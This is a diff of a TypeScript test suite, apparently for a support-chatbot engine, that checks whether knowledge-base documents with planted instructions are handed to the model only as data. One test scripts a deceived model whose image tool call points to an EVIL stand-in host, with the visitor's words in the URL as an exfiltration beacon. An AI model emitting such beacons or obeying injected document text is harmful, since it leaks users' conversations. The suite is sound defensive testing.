@@ -1,5 +1,5 @@
-// Documents that give orders to the model, through the whole product: they are found, given to the model as data, and obeyed by
-// nobody, not even by a model that obeys whatever stands outside of their block.
+// Documents with instructions for the model, end to end: they are found and given to the model as data, and even a
+// model that obeys text outside its data block does not follow them.
 import { CANARY, EVIL, HOSTILE } from '@parlance/engine/prompt-injection.testing'
 import { afterEach, describe, expect, it } from 'vitest'
 import { sharedTestServer } from '../helpers/app.ts'
@@ -22,7 +22,7 @@ const NODES = [
 ]
 const UI = { vg_enableUIEngine: true, UIhandoffTitle: 'Talk to us', vg_kbEnabled: true }
 const agent = await withNodes(NODES, UI)
-/** Words of no other document, so that a question finds the one that it means. */
+/** Words of no other document, so that a question finds the right one. */
 const KEYS =
   'alder birch cedar ebony fir gingko hazel ironwood juniper kapok larch maple nutmeg oak pine quince rowan spruce teak'
     .split(' ')
@@ -41,8 +41,8 @@ const prompts = () =>
     return path.endsWith('/chat/completions') ? messages.filter(({ role }) => role === 'system') : []
   })
 
-describe.each([true, false])('with a model that is gullible: %s', (gullible) => {
-  it.each(HOSTILE.map((hostile, at) => ({ ...hostile, at })))('$name is data', async ({ at }) => {
+describe.each([true, false])('with a gullible model: %s', (gullible) => {
+  it.each(HOSTILE.map((hostile, at) => ({ ...hostile, at })))('treats $name as data', async ({ at }) => {
     server.model.control.set({ gullible })
     const turn = await talk(agent)(`How much does the ${KEYS[at]} weigh?`)
     const spoken = prompts().filter(({ content }) => content.includes('<passages>'))
@@ -62,12 +62,12 @@ describe.each([true, false])('with a model that is gullible: %s', (gullible) => 
   })
 })
 
-describe('a model that was taken in all the same', () => {
+describe('with a model that was taken in', () => {
   const shows = (url: string) => ({
     text: 'Look:',
     toolCalls: [{ name: 'send_ui', arguments: JSON.stringify({ items: [{ type: 'image', url, alt: 'x' }] }) }],
   })
-  it('[1.15] shows no address with the conversation in it, and no number of a source that was not given', async () => {
+  it('[1.15] shows no address that contains the conversation, and no unknown source number', async () => {
     const say = talk(agent)
     server.model.control.script([{ ...shows(`${EVIL}/beacon.png?q=what-the-visitor-said`), purpose: 'answer' }])
     const shown = await say('How much does the juniper hammer weigh?')
